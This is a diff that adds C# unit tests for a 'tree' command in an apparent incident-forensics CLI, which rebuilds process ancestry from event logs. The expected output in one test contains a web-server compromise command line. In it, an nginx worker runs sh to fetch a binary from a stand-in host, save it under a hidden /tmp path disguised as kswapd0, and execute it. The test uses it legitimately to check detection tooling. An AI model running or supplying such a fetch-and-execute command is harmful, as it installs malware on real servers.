@@ -1,0 +1,65 @@
+using System.IO;
+using System.Linq;
+using CsmEvents.Tests.Support;
+
+namespace CsmEvents.Tests.Cli;
+
+public class TreeCommandTests
+{
+    private static string Sample(params string[] parts) => Path.Combine(RepoPaths.Samples, Path.Combine(parts));
+
+    [Fact]
+    public void AncestryOfCurlInTheLinuxIncident()
+    {
+        string file = Sample("linux", "incident-web01.jsonl");
+        var run = CliRun.Run(new[] { "tree", file, "--name", "curl", "--ancestry" });
+        Assert.Equal("", run.Stderr);
+        Assert.Equal(0, run.ExitCode);
+        Assert.Equal(new[]
+        {
+            "host: " + file,
+            "└─ systemd (1): /sbin/init",
+            "   └─ systemd (1187) [thread]: /usr/lib/systemd/systemd",
+            "      └─ nginx (1187) [exec]: /usr/sbin/nginx -g 'daemon off; master_process on;'",
+            "         └─ nginx (1189) [thread] 1 event: /usr/sbin/nginx -g 'daemon off; master_process on;'",
+            "            └─ nginx (24311) [thread]: /usr/sbin/nginx",
+            "               └─ sh (24311) [exec] 1 event: sh -c 'mkdir -p /tmp/.x && curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0 && chmod +x /tmp/.x/kswapd0 && /tmp/.x/kswapd0'",
+            "                  └─ sh (24313) [thread]: /usr/bin/dash",
+            "                     └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0",
+        }, run.StdoutLines);
+    }
+
+    [Fact]
+    public void TheTruncatedLineageShowsItsGapBetweenTheKeptEnds()
+    {
+        var run = CliRun.Run(new[] { "tree", Sample("linux", "incident-web01.jsonl"), "--pid", "2764", "--ancestry", "--format", "json" });
+        Assert.Equal(0, run.ExitCode);
+        var node = System.Text.Json.JsonDocument.Parse(run.Stdout).RootElement.GetProperty("roots")[0];
+        var path = new System.Collections.Generic.List<string>();
+        while (true)
+        {
+            path.Add(node.GetProperty("pid").ValueKind == System.Text.Json.JsonValueKind.Null ? "gap" : node.GetProperty("pid").GetInt64().ToString());
+            var children = node.GetProperty("children");
+            if (children.GetArrayLength() == 0) break;
+            node = children[0];
+        }
+        // Oldest kept ancestors from pid 1, then the cut, then the nearest kept ones down to the process itself.
+        Assert.Equal("1", path[0]);
+        int gap = path.IndexOf("gap");
+        Assert.True(gap > 0, string.Join(" > ", path));
+        Assert.Equal("24459", path[gap - 1]);
+        Assert.Equal("2709", path[gap + 1]);
+        Assert.Equal("2764", path.Last());
+    }
+
+    [Fact]
+    public void FormatsAndUsageErrors()
+    {
+        string file = Sample("windows", "incident-ws01.jsonl");
+        Assert.StartsWith("digraph", CliRun.Run(new[] { "tree", file, "--format", "dot" }).Stdout);
+        Assert.StartsWith("flowchart TD", CliRun.Run(new[] { "tree", file, "--format", "mermaid" }).Stdout);
+        var bad = CliRun.Run(new[] { "tree", file, "--format", "svg" });
+        Assert.Equal(2, bad.ExitCode);
+        Assert.Equal(new[] { "csm-events tree: option --format: 'svg' is not text, json, dot or mermaid" }, bad.StderrLines);
+    }
+}
